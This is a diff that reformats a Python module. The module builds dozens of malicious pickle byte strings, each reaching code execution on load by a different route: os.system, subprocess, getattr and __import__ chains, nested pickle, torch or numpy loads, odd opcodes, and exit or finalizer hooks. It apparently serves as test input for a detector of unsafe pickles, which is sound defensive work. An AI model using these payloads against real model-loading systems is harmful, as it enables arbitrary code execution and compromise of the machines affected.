@@ -75,7 +75,15 @@ def _built(mark):
 def _slots(mark):
     """BUILD with a state of slots, which are set by name."""
     slots = b"N}" + _text("__class__") + _name("builtins", "eval") + b"s\x86"
-    return _PROTO + _name("collections", "OrderedDict") + b")R" + slots + b"b" + _text(_made(mark)) + b"\x85R."
+    return (
+        _PROTO
+        + _name("collections", "OrderedDict")
+        + b")R"
+        + slots
+        + b"b"
+        + _text(_made(mark))
+        + b"\x85R."
+    )
 
 
 def _extended(code, mark):
@@ -109,29 +117,91 @@ def ways(mark):
         "commands of Python 2": _PROTO + _called("commands", "getoutput", shell) + b".",
         "__builtin__ of Python 2": _PROTO + _called("__builtin__", "eval", python) + b".",
         "runpy": _PROTO + _called("runpy", "run_path", str(mark.with_suffix(".py"))) + b".",
-        "code.InteractiveInterpreter": _PROTO + _name("code", "InteractiveInterpreter") + b")R" + b"}b.",
+        "code.InteractiveInterpreter": _PROTO
+        + _name("code", "InteractiveInterpreter")
+        + b")R"
+        + b"}b.",
         "timeit": _PROTO + _called("timeit", "timeit", python) + b".",
         "cProfile.run": _PROTO + _called("cProfile", "run", python) + b".",
         "pdb.run": _PROTO + _called("pdb", "run", python) + b".",
         "doctest": _PROTO + _called("doctest", "debug_script", python) + b".",
         "idlelib": _PROTO + _called("idlelib.run", "exec", python) + b".",
-        "pathlib.Path.touch": _PROTO + _name("pathlib", "Path.touch") + _called("pathlib", "Path", str(mark)) + b"\x85R.",
+        "pathlib.Path.touch": _PROTO
+        + _name("pathlib", "Path.touch")
+        + _called("pathlib", "Path", str(mark))
+        + b"\x85R.",
         "shutil.copy": _PROTO + _called("shutil", "copyfile", "/etc/hostname", str(mark)) + b".",
         "logging.FileHandler": _PROTO + _called("logging", "FileHandler", str(mark)) + b".",
-        "getattr of a module": _PROTO + _name("builtins", "getattr") + b"(" + _called("importlib", "import_module", "os") + _text("system") + b"tR" + _text(shell) + b"\x85R.",
-        "__import__ and getattr": _PROTO + _name("builtins", "getattr") + b"(" + _called("builtins", "__import__", "os") + _text("system") + b"tR" + _text(shell) + b"\x85R.",
-        "operator.attrgetter": _PROTO + _called("operator", "attrgetter", "system") + _called("builtins", "__import__", "os") + b"\x85R" + _text(shell) + b"\x85R.",
-        "operator.methodcaller": _PROTO + _called("operator", "methodcaller", "system", shell) + _called("builtins", "__import__", "os") + b"\x85R.",
-        "functools.partial": _PROTO + _name("functools", "partial") + b"(" + _name("os", "system") + _text(shell) + b"tR)R.",
-        "functools.reduce": _PROTO + _name("functools", "reduce") + b"(" + _name("os", "system") + b"(" + _text(shell) + b"ltR.",
-        "map": _PROTO + _name("builtins", "list") + b"(" + _name("builtins", "map") + b"(" + _name("os", "system") + b"(" + _text(shell) + b"ltRtR.",
-        "new object": _PROTO + _name("subprocess", "Popen") + b"((" + _text("touch") + _text(str(mark)) + b"lt\x81.",
-        "new object with names": b"\x80\x04" + _name("subprocess", "Popen") + b"((" + _text("touch") + _text(str(mark)) + b"lt}\x92.",
+        "getattr of a module": _PROTO
+        + _name("builtins", "getattr")
+        + b"("
+        + _called("importlib", "import_module", "os")
+        + _text("system")
+        + b"tR"
+        + _text(shell)
+        + b"\x85R.",
+        "__import__ and getattr": _PROTO
+        + _name("builtins", "getattr")
+        + b"("
+        + _called("builtins", "__import__", "os")
+        + _text("system")
+        + b"tR"
+        + _text(shell)
+        + b"\x85R.",
+        "operator.attrgetter": _PROTO
+        + _called("operator", "attrgetter", "system")
+        + _called("builtins", "__import__", "os")
+        + b"\x85R"
+        + _text(shell)
+        + b"\x85R.",
+        "operator.methodcaller": _PROTO
+        + _called("operator", "methodcaller", "system", shell)
+        + _called("builtins", "__import__", "os")
+        + b"\x85R.",
+        "functools.partial": _PROTO
+        + _name("functools", "partial")
+        + b"("
+        + _name("os", "system")
+        + _text(shell)
+        + b"tR)R.",
+        "functools.reduce": _PROTO
+        + _name("functools", "reduce")
+        + b"("
+        + _name("os", "system")
+        + b"("
+        + _text(shell)
+        + b"ltR.",
+        "map": _PROTO
+        + _name("builtins", "list")
+        + b"("
+        + _name("builtins", "map")
+        + b"("
+        + _name("os", "system")
+        + b"("
+        + _text(shell)
+        + b"ltRtR.",
+        "new object": _PROTO
+        + _name("subprocess", "Popen")
+        + b"(("
+        + _text("touch")
+        + _text(str(mark))
+        + b"lt\x81.",
+        "new object with names": b"\x80\x04"
+        + _name("subprocess", "Popen")
+        + b"(("
+        + _text("touch")
+        + _text(str(mark))
+        + b"lt}\x92.",
         "INST": b"(S'" + shell.encode() + b"'\nios\nsystem\n.",
-        "INST with eval": b"(S\"" + python.encode() + b"\"\nibuiltins\neval\n.",
+        "INST with eval": b'(S"' + python.encode() + b'"\nibuiltins\neval\n.',
         "OBJ": _PROTO + b"(" + _name("os", "system") + _text(shell) + b"o.",
         "names of the stack": _stacked("os", "system", shell),
-        "names of the stack, short": b"\x80\x04" + _short("posix") + _short("system") + b"\x93" + _text(shell) + b"\x85R.",
+        "names of the stack, short": b"\x80\x04"
+        + _short("posix")
+        + _short("system")
+        + b"\x93"
+        + _text(shell)
+        + b"\x85R.",
         "a name with dots": _stacked("torch", "serialization.os.system", shell),
         "a name with dots of numpy": _stacked("numpy", "testing.os.system", shell),
         "a name with dots, old": _PROTO + _called("torch", "serialization.os.system", shell) + b".",
@@ -140,35 +210,114 @@ def ways(mark):
         "names out of the memo": _memoised("os", "system", shell),
         "names in bytes": b"\x80\x04" + b"C\x02osC\x06system\x93" + _text(shell) + b"\x85R.",
         "in a frame": _framed(_text("os") + _text("system") + b"\x93" + _text(shell) + b"\x85R."),
-        "in a frame of a wrong size": b"\x80\x04\x95\xff\xff\xff\xff\xff\xff\xff\x7f" + _called("os", "system", shell) + b".",
+        "in a frame of a wrong size": b"\x80\x04\x95\xff\xff\xff\xff\xff\xff\xff\x7f"
+        + _called("os", "system", shell)
+        + b".",
         "after STOP": _PROTO + b"}." + _called("os", "system", shell) + b".",
         "before a break": _PROTO + _called("os", "system", shell) + b"\xff\xff",
-        "behind a text of it": _PROTO + _text("cos\nsystem\n") + b"0" + _called("os", "system", shell) + b".",
+        "behind a text of it": _PROTO
+        + _text("cos\nsystem\n")
+        + b"0"
+        + _called("os", "system", shell)
+        + b".",
         "__setstate__": _built(mark),
         "state of slots": _slots(mark),
-        "state of a module": _PROTO + _called("importlib", "import_module", "os") + b"}" + _text("x") + _text("y") + b"sb.",
+        "state of a module": _PROTO
+        + _called("importlib", "import_module", "os")
+        + b"}"
+        + _text("x")
+        + _text("y")
+        + b"sb.",
         "EXT1": _extended(b"\x82\x07", mark),
         "EXT2": _extended(b"\x83\x07\x00", mark),
         "EXT4": _extended(b"\x84\x07\x00\x00\x00", mark),
         "PERSID": b"P" + shell.encode() + b"\n.",
-        "BINPERSID that is no storage": _PROTO + b"(" + _text("module") + _name("os", "system") + _text(shell) + b"tQ.",
-        "BINPERSID with a called storage": _PROTO + b"(" + _text("storage") + _called("os", "system", shell) + _text("0") + _text("cpu") + b"K\x01tQ.",
-        "a pickle inside": _PROTO + _name("pickle", "loads") + b"C" + bytes([len(_PROTO + _called("os", "system", shell)) + 1]) + _PROTO + _called("os", "system", shell) + b"." + b"\x85R.",
-        "torch.load inside": _PROTO + _called("torch", "load", str(mark.with_suffix(".inner"))) + b".",
-        "torch.storage._load_from_bytes": _PROTO + _name("torch.storage", "_load_from_bytes") + b"C" + bytes([len(_called("os", "system", shell)) + 1]) + _called("os", "system", shell) + b"." + b"\x85R.",
-        "numpy.load inside": _PROTO + _called("numpy", "load", str(mark.with_suffix(".npy"))) + b".",
+        "BINPERSID that is no storage": _PROTO
+        + b"("
+        + _text("module")
+        + _name("os", "system")
+        + _text(shell)
+        + b"tQ.",
+        "BINPERSID with a called storage": _PROTO
+        + b"("
+        + _text("storage")
+        + _called("os", "system", shell)
+        + _text("0")
+        + _text("cpu")
+        + b"K\x01tQ.",
+        "a pickle inside": _PROTO
+        + _name("pickle", "loads")
+        + b"C"
+        + bytes([len(_PROTO + _called("os", "system", shell)) + 1])
+        + _PROTO
+        + _called("os", "system", shell)
+        + b"."
+        + b"\x85R.",
+        "torch.load inside": _PROTO
+        + _called("torch", "load", str(mark.with_suffix(".inner")))
+        + b".",
+        "torch.storage._load_from_bytes": _PROTO
+        + _name("torch.storage", "_load_from_bytes")
+        + b"C"
+        + bytes([len(_called("os", "system", shell)) + 1])
+        + _called("os", "system", shell)
+        + b"."
+        + b"\x85R.",
+        "numpy.load inside": _PROTO
+        + _called("numpy", "load", str(mark.with_suffix(".npy")))
+        + b".",
         "joblib": _PROTO + _called("joblib", "load", str(mark.with_suffix(".inner"))) + b".",
-        "numpy's fromfile hook": _PROTO + _called("numpy.testing._private.utils", "runstring", python) + b".",
+        "numpy's fromfile hook": _PROTO
+        + _called("numpy.testing._private.utils", "runstring", python)
+        + b".",
         "torch.hub": _PROTO + _called("torch.hub", "load", str(mark.parent), "x") + b".",
         "torch.jit": _PROTO + _called("torch.jit", "load", str(mark.with_suffix(".inner"))) + b".",
-        "a subclass of OrderedDict": _PROTO + _name("argparse", "Namespace") + b")R" + b"}" + _text("x") + _called("os", "system", shell) + b"sb.",
-        "a stand-in that is called": _PROTO + _name("typing", "Any") + _called("os", "system", shell) + b"\x85R.",
+        "a subclass of OrderedDict": _PROTO
+        + _name("argparse", "Namespace")
+        + b")R"
+        + b"}"
+        + _text("x")
+        + _called("os", "system", shell)
+        + b"sb.",
+        "a stand-in that is called": _PROTO
+        + _name("typing", "Any")
+        + _called("os", "system", shell)
+        + b"\x85R.",
         "a key of a dictionary": _PROTO + b"}" + _called("os", "system", shell) + b"K\x01s.",
-        "deep inside": _PROTO + b"(" * 50 + b"]" + _called("os", "system", shell) + b"a" + b"t" * 50 + b".",
-        "_codecs.encode with a codec": _PROTO + _called("_codecs", "lookup", "x") + b"0" + _called("_codecs", "register", python) + b".",
+        "deep inside": _PROTO
+        + b"(" * 50
+        + b"]"
+        + _called("os", "system", shell)
+        + b"a"
+        + b"t" * 50
+        + b".",
+        "_codecs.encode with a codec": _PROTO
+        + _called("_codecs", "lookup", "x")
+        + b"0"
+        + _called("_codecs", "register", python)
+        + b".",
         "sys.setprofile": _PROTO + _name("sys", "setprofile") + _name("os", "system") + b"\x85R.",
-        "threading.Timer": _PROTO + _name("threading", "Timer.start") + _name("threading", "Timer") + b"(K\x00" + _name("os", "system") + b"(" + _text(shell) + b"ltR\x85R.",
-        "weakref.finalize": _PROTO + _name("weakref", "finalize") + b"(" + _name("collections", "UserDict") + b")R" + _name("os", "system") + _text(shell) + b"tR.",
-        "atexit": _PROTO + _name("atexit", "register") + b"(" + _name("os", "system") + _text(shell) + b"tR.",
+        "threading.Timer": _PROTO
+        + _name("threading", "Timer.start")
+        + _name("threading", "Timer")
+        + b"(K\x00"
+        + _name("os", "system")
+        + b"("
+        + _text(shell)
+        + b"ltR\x85R.",
+        "weakref.finalize": _PROTO
+        + _name("weakref", "finalize")
+        + b"("
+        + _name("collections", "UserDict")
+        + b")R"
+        + _name("os", "system")
+        + _text(shell)
+        + b"tR.",
+        "atexit": _PROTO
+        + _name("atexit", "register")
+        + b"("
+        + _name("os", "system")
+        + _text(shell)
+        + b"tR.",
     }
     return found
